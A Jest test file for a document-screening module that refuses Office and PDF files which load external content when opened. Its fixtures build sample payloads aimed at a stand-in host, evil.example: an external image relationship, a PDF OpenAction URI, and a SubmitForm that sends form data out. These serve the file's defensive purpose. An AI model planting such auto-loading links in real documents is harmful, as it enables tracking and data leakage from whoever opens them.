import { describe, expect, it } from '@jest/globals';
import { loadingOfficeFiles, type MadeFile } from '../testing/loading-office-files.ts';
import { hidingPdfs, loadingPdfs } from '../testing/loading-pdfs.ts';
import { docx, field, rels, relationship, word } from '../testing/office-words.ts';
import { catalogue, pages, pdfOf } from '../testing/pdf-of-objects.ts';
import { bytesOf } from './bytes.ts';
import { judgeContent } from './judge-content.ts';

const verdictOn = (content: Buffer) =>
  judgeContent(bytesOf(content)).then(
    () => 'taken',
    ({ name, refusal, message }: { name: string; refusal?: string; message: string }) =>
      name === 'ContentRefused' ? refusal : message,
  );

/** Those that are not refused for one of these reasons. */
async function others(files: readonly MadeFile[], reasons: readonly string[]): Promise<string[]> {
  const found: string[] = [];
  for (const [title, content] of files) {
    const verdict = await verdictOn(content);
    if (!reasons.includes(String(verdict))) found.push(`${title}: ${verdict}`);
  }
  return found;
}

/** Some of them run or hold something besides, and are refused for that. */
const reasons = ['loads', 'loadsFile', 'program', 'anotherFile', 'macros'];

describe('a file that loads something by itself is refused (docs/files 28)', () => {
  it('an Office file, by every field, relationship and element of the standard', async () => {
    const files = loadingOfficeFiles();
    expect(files.length).toBeGreaterThan(500);
    expect(await others(files, reasons)).toEqual([]);
  });

  it('a PDF, by every action and object of the standard', async () => {
    const files = loadingPdfs();
    expect(files.length).toBeGreaterThan(250);
    expect(await others(files, reasons)).toEqual([]);
  });

  it.each([
    [
      'evil.example',
      docx({ 'word/_rels/document.xml.rels': rels(relationship('image', 'http://a:b@evil.example:80/c', 'External')) }),
    ],
    [
      'server',
      docx({
        'word/_rels/settings.xml.rels': rels(relationship('attachedTemplate', 'file://server/a.dotm', 'External')),
      }),
    ],
    ['a b.png', word(field(' INCLUDEPICTURE "C:\\\\My%20Pictures\\\\a%20b.png" \\d '))],
    ['evil.example', pdfOf([catalogue('/OpenAction<</S/URI/URI(https://evil.example/a)>>'), pages])],
    ['evil.example', pdfOf([catalogue(), pages, '<</S/SubmitForm/F<</FS/URL/F(http://evil.example/a)>>>>'])],
    [
      'other.pdf',
      pdfOf([
        catalogue('/OpenAction 3 0 R'),
        pages,
        '<</S/GoToR/F<FEFF006F0074006800650072002E007000640066>/D[0/Fit]>>',
      ]),
    ],
  ])('by name: %s', async (host, content) => {
    await expect(judgeContent(bytesOf(content))).rejects.toThrow(
      `This document loads ${host} when it is opened. Remove the link and save it again.`,
    );
  });
});

it('a PDF that holds a file reached as no page, form, outline, font or metadata is refused (docs/files 31)', async () => {
  expect(await others(hidingPdfs, ['anotherFile'])).toEqual([]);
});
